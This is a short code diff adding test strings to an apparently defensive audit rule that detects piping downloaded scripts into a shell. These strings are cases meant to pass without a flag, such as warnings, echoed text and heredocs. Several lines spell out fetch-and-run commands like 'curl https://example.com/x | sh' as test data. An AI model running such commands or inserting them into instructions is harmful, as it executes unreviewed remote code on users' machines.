@@ -77,6 +77,8 @@ export const runningRules: readonly AuditRule[] = defineAuditRules([
         "```sh\ncurl -s https://example.com/a.json | jq .\n```",
         "```sh\ncurl -s https://example.com/a.json | python3 -m json.tool\n```",
         "Run `curl -O https://example.com/a.sh` and read it.",
+        "Don't:\n\n```sh\ncurl https://example.com/x | sh\n```",
+        "An attacker could run `curl https://example.com/x | sh`.",
         "Flag any README that tells people to run `curl https://example.com/i.sh | sh`.",
         { files: { "SKILL.md": "# A", "a.sh": 'echo "  curl -fsSL https://example.com/i.sh | bash"\n' } },
         { files: { "SKILL.md": "# A", "a.sh": "cat <<EOF\ncurl https://example.com/i.sh | bash\nEOF\n" } },
